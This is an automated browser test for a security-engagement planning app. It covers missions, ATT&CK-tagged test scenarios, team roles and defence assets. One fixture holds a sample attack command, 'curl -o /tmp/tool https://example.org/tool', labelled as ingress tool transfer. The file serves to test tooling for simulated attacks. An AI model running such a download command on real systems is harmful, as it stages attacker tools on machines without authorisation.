import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { APIRequestContext, Locator, Page } from '@playwright/test';
import {
  API_HEADERS,
  apiSignIn,
  prepareAdmin,
  strongPassword,
  unexpectedErrors,
  type Credentials,
} from '../auth-helpers.js';
import { expect, test } from '../fixtures.js';
import { REPO_ROOT } from '../paths.js';

const ATTACK_DIR = path.join(REPO_ROOT, 'apps/server/test/fixtures/attack');

const TESTS = {
  alpha: {
    name: 'Alpha: PowerShell discovery',
    attack_ids: ['T1059.001'],
    platforms: ['Windows'],
    executor: { name: 'powershell', command: 'Get-Process' },
  },
  bravo: {
    name: 'Bravo: ingress tool transfer',
    attack_ids: ['T1105'],
    platforms: ['Linux'],
    executor: { name: 'bash', command: 'curl -o /tmp/tool https://example.org/tool' },
  },
  charlie: {
    name: 'Charlie: spearphishing attachment',
    attack_ids: ['T1566.001'],
    platforms: ['Windows'],
  },
};
const RED = { email: 'riley.red@example.org', display_name: 'Riley Red' };
const BLUE = { email: 'bailey.blue@example.org', display_name: 'Bailey Blue' };

let admin: Credentials;

test.describe.configure({ mode: 'serial' });
test.use({ viewport: { width: 1280, height: 1100 } });

async function post<T>(api: APIRequestContext, url: string, data: object): Promise<T> {
  const res = await api.post(url, { headers: API_HEADERS, data });
  expect(res.status(), await res.text()).toBe(201);
  return (await res.json()) as T;
}

async function importAttack(api: APIRequestContext, file: string): Promise<void> {
  const res = await api.post('/api/attack/sync', {
    headers: API_HEADERS,
    multipart: {
      file: {
        name: file,
        mimeType: 'application/json',
        buffer: await readFile(path.join(ATTACK_DIR, file)),
      },
    },
  });
  expect(res.status(), await res.text()).toBe(202);
  const { job } = (await res.json()) as { job: { id: string } };
  await expect
    .poll(
      async () => {
        const poll = await api.get(`/api/jobs/${job.id}`, { headers: API_HEADERS });
        return ((await poll.json()) as { status: string }).status;
      },
      { timeout: 60_000 },
    )
    .toBe('succeeded');
}

async function createUser(api: APIRequestContext, user: typeof RED, roleKey: string) {
  const roles = await api.get('/api/roles', { headers: API_HEADERS });
  const { items } = (await roles.json()) as { items: { id: string; key: string | null }[] };
  const role = items.find((r) => r.key === roleKey);
  expect(role, roleKey).toBeTruthy();
  await post(api, '/api/users', {
    ...user,
    password: strongPassword('user'),
    role_ids: [role?.id],
  });
}

/** Picks `option` in the Mantine Select whose input is `input`. */
async function choose(page: Page, input: Locator, option: string | RegExp): Promise<void> {
  await input.click();
  await page.getByRole('option', { name: option }).click();
}

async function names(rows: Locator): Promise<string[]> {
  return rows.evaluateAll((els) => els.map((el) => el.getAttribute('data-name') ?? ''));
}

/** Drags row `from`'s handle onto row `to` with the mouse (pointer events, in steps). */
async function dragRow(page: Page, rows: Locator, handle: string, from: number, to: number) {
  const start = await rows.nth(from).getByTestId(handle).boundingBox();
  const target = await rows.nth(to).boundingBox();
  if (!start || !target) throw new Error('rows are not visible');
  const x = start.x + start.width / 2;
  const y = start.y + start.height / 2;
  await page.mouse.move(x, y);
  await page.mouse.down();
  await page.mouse.move(x, y + (to < from ? -8 : 8), { steps: 4 });
  await page.mouse.move(x, target.y + target.height / 2 + (to < from ? -6 : 6), { steps: 20 });
  await page.mouse.up();
}

test.beforeAll(async ({ resetServer, browser }) => {
  await resetServer();
  admin = await prepareAdmin();
  const page = await browser.newPage();
  await apiSignIn(page, admin);
  const api = page.request;
  await importAttack(api, 'mini-enterprise.json');
  const ids: Record<string, string> = {};
  for (const [k, body] of Object.entries(TESTS))
    ids[k] = (await post<{ id: string }>(api, '/api/library/tests', body)).id;
  await post(api, '/api/library/scenarios', {
    name: 'Initial access and staging',
    tags: ['phishing'],
    test_ids: [ids.charlie, ids.bravo],
  });
  await post(api, '/api/library/scenarios', {
    name: 'Execution on the workstation',
    test_ids: [ids.alpha, ids.bravo, ids.charlie],
  });
  await createUser(api, RED, 'red_operator');
  await createUser(api, BLUE, 'blue_analyst');
  await page.close();
});

test('plan a mission: client, library scenarios, members, status', async ({
  page,
  pageErrors,
  shot,
}) => {
  await apiSignIn(page, admin);
  await page.goto('/missions');
  await expect(page.getByTestId('missions-empty')).toBeVisible();
  await page.getByTestId('missions-new').click();

  // Create: a new client inline, then the mission.
  await expect(page.getByTestId('mission-editor')).toBeVisible();
  await page.getByTestId('client-new').click();
  await page.getByTestId('client-new-name').fill('Acme Corp');
  await page.getByTestId('client-new-save').click();
  await expect(page.getByTestId('mission-editor-client')).toHaveValue('Acme Corp');
  await page.getByTestId('mission-editor-name').fill('Operation Nightjar');
  await page.getByTestId('mission-editor-start_date').fill('2026-12-01');
  await page.getByTestId('mission-editor-end_date').fill('2026-12-12');
  await page.getByTestId('mission-editor-tags').fill('q4');
  await page.getByTestId('mission-editor-tags').press('Enter');
  await page.getByTestId('mission-editor-description').fill('Assume breach from a **phish**.');
  await shot(page, 'missions-editor');
  await page.getByTestId('mission-editor-save').click();

  const mission = page.getByTestId('mission-page');
  await expect(mission).toBeVisible();
  await expect(mission).toHaveAttribute('data-status', 'planned');
  await expect(page.getByTestId('mission-name')).toHaveText('Operation Nightjar');
  await expect(page.getByTestId('plan-empty')).toBeVisible();

  // Add both library scenarios from the picker.
  await page.getByTestId('plan-add').click();
  const dialog = page.getByRole('dialog');
  for (const name of ['Initial access and staging', 'Execution on the workstation']) {
    await dialog
      .locator(`[data-testid="add-scenario-row"][data-name="${name}"]`)
      .getByTestId('add-scenario')
      .click();
    await expect(page.getByText(`Added “${name}”`)).toBeVisible();
  }
  await page.getByTestId('add-from-library-close').click();
  const scenarios = page.getByTestId('plan-scenario');
  await expect(scenarios).toHaveCount(2);
  expect(await names(scenarios)).toEqual([
    'Initial access and staging',
    'Execution on the workstation',
  ]);
  await expect(page.getByTestId('plan-test')).toHaveCount(5);
  await expect(page.getByTestId('mission-progress')).toHaveAttribute('data-total', '5');
  const firstTests = scenarios.first().getByTestId('plan-test');
  expect(await names(firstTests)).toEqual([TESTS.charlie.name, TESTS.bravo.name]);
  await expect(scenarios.first().getByTestId('attack-tag').first()).toHaveAttribute(
    'data-tag',
    'T1566.001',
  );

  // Filter by technique: only the tests tagged with it stay.
  await choose(page, page.getByTestId('plan-filter-technique'), /^T1105/);
  await expect(page.getByTestId('plan-test')).toHaveCount(2);
  await page.getByRole('button', { name: 'Clear', exact: true }).click();
  await expect(page.getByTestId('plan-test')).toHaveCount(5);

  // Reorder a test by dragging (only checked when the reorder API answers).
  const patch = page.waitForResponse(
    (r) => r.request().method() === 'PATCH' && /\/tests\/[^/]+\/plan$/.test(r.url()),
  );
  await dragRow(page, firstTests, 'plan-test-handle', 1, 0);
  const answer = await patch;
  if (answer.ok()) {
    await expect.poll(() => names(firstTests)).toEqual([TESTS.bravo.name, TESTS.charlie.name]);
  } else {
    expect(answer.status()).toBe(404);
    await expect(page.getByTestId('error-alert')).toContainText('not available yet');
    expect(await names(firstTests)).toEqual([TESTS.charlie.name, TESTS.bravo.name]);
  }
  await shot(page, 'missions-plan');

  // Members: the creator is lead; add red and blue.
  await page.getByTestId('tab-members').click();
  await expect(page.getByTestId('member-row')).toHaveCount(1);
  for (const [user, role] of [
    [RED, /^Red:/],
    [BLUE, /^Blue:/],
  ] as const) {
    await page.getByTestId('member-user').fill(user.display_name.split(' ')[0] ?? '');
    await page.getByRole('option', { name: new RegExp(user.email) }).click();
    await choose(page, page.getByTestId('member-add-role'), role);
    await page.getByTestId('member-add-submit').click();
    await expect(
      page.locator(`[data-testid="member-row"][data-email="${user.email}"]`),
    ).toBeVisible();
  }
  await expect(page.getByTestId('member-row')).toHaveCount(3);
  await expect(
    page.locator(`[data-testid="member-row"][data-email="${RED.email}"]`),
  ).toHaveAttribute('data-role', 'red');
  await expect(
    page.locator(`[data-testid="member-row"][data-email="${BLUE.email}"]`),
  ).toHaveAttribute('data-role', 'blue');
  await shot(page, 'missions-members');

  // Assets: a defence tool with its layer.
  await page.getByTestId('tab-assets').click();
  const assets = page.getByTestId('mission-assets');
  await expect(assets.or(page.getByTestId('error-alert'))).toBeVisible();
  if (await assets.isVisible()) {
    await choose(page, page.getByTestId('asset-kind'), 'Defence tools');
    await page.getByTestId('asset-name').fill('CrowdStrike Falcon');
    await choose(page, page.getByTestId('asset-layer'), 'EDR');
    await page.getByTestId('asset-submit').click();
    await expect(page.getByTestId('assets-defence_tool').getByTestId('asset-row')).toHaveCount(1);
  }
  await shot(page, 'missions-assets');

  // Start the mission.
  await page.getByTestId('mission-to-active').click();
  await expect(mission).toHaveAttribute('data-status', 'active');
  await expect(page.getByTestId('mission-to-completed')).toBeVisible();

  // The list shows it with its status, progress and my role.
  await page.goto('/missions');
  const row = page.locator('[data-testid="mission-row"][data-name="Operation Nightjar"]');
  await expect(row).toBeVisible();
  await expect(row.getByTestId('mission-status')).toHaveAttribute('data-status', 'active');
  await expect(row.getByTestId('mission-role')).toHaveAttribute('data-role', 'lead');
  await expect(row.getByTestId('mission-progress')).toHaveAttribute('data-total', '5');
  // The status change kept the other fields.
  await expect(row).toContainText('#q4');
  await expect(row).toContainText('2026');
  await shot(page, 'missions-list');

  await page.goto('/clients');
  const client = page.locator('[data-testid="client-row"][data-name="Acme Corp"]');
  await expect(client).toContainText('1');
  await shot(page, 'missions-clients');

  const errors = unexpectedErrors(pageErrors).filter(
    (e) => !(answer.status() === 404 && /status of 404/.test(e)),
  );
  expect(errors).toEqual([]);
});
